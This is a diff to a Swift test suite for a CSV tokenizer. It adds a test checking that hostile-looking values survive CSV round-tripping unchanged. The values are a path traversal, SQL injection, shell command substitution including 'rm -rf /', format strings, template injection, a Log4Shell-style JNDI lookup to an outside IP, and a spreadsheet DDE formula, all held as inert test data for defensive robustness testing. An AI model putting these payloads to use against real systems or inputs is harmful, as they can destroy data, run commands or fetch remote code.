@@ -182,6 +182,21 @@ struct TokenizerSyntaxTests {
     #expect(after.rows.first?.fields.map(\.column) == [1, 4, 6])
   }
 
+  @Test("path-like ids, SQL, shell and format strings, and duplicate ids are data, passed through byte-exact")
+  func hostileButValidValues() {
+    let hostile = [
+      "../../etc/passwd", "C:\\Windows\\system32", "\\\\server\\share", "'; DROP TABLE cases;--", "$(rm -rf /)",
+      "`id`", "%s%n%x%p", "{{7*7}}", "${jndi:ldap://198.51.100.7/a}", "=cmd|' /C calc'!A0", "R-1", "R-1",
+    ]
+    var w = CSVWriter(options: { var o = CSVWriter.Options(); o.neutraliseFormulas = false; return o }())
+    w.writeRow(["id", "value"])
+    for (i, h) in hostile.enumerated() { w.writeRow([h, "\(i)"]) }
+    let t = tokenize(w.bytes)
+    #expect(t.rejected.isEmpty)
+    #expect(t.values.map { $0[0] } == hostile)
+    #expect(t.values.map { $0[1] } == hostile.indices.map { "\($0)" })
+  }
+
   @Test("quotes: an empty quoted field, a quoted quote, a quoted delimiter-only value")
   func quoting() {
     let t = tokenize("a,b,c\n\"\",\"\"\"\",\",\"\n\"\"\"\"\"\",x,\"a\"\"\"\n")
